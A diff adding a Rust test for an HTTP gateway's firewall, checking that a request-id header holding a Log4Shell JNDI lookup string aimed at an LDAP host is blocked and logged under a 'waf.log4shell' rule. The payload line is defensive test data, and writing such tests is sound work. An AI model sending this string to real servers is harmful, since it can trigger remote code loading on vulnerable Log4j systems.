@@ -600,3 +600,35 @@ async fn the_body_limit_still_answers_413_and_counts() {
     assert_eq!(fits.header("x-seen-body-len"), "1024");
     edge.stop().await;
 }
+
+#[tokio::test]
+async fn a_client_request_id_is_inspected_like_any_header() {
+    let edge = Edge::start("").await;
+    // Kept as the request id (visible ASCII, no spaces), and inspected like any header.
+    let answer = edge
+        .send(
+            "GET",
+            "/",
+            &[("x-request-id", "${jndi:ldap://198.51.100.7/a}")],
+            "",
+        )
+        .await;
+    assert_eq!(answer.status, StatusCode::FORBIDDEN);
+    assert_eq!(answer.json()["code"], "request_blocked");
+    // Without one, the gateway's own random id passes through the WAF untouched.
+    for _ in 0..3 {
+        let answer = edge.send("GET", "/", &[], "").await;
+        assert_eq!(answer.status, StatusCode::OK);
+    }
+    assert_eq!(
+        edge.counts("waf.log4shell"),
+        EdgeCounts {
+            blocked: 1,
+            counted: 0
+        }
+    );
+    let lines = edge.stop().await;
+    let decision = &line_with(&lines, "${jndi:ldap://198.51.100.7/a}")["edge"][0];
+    assert_eq!(decision["rule"], "waf.log4shell");
+    assert_eq!(decision["field"], "header:x-request-id");
+}
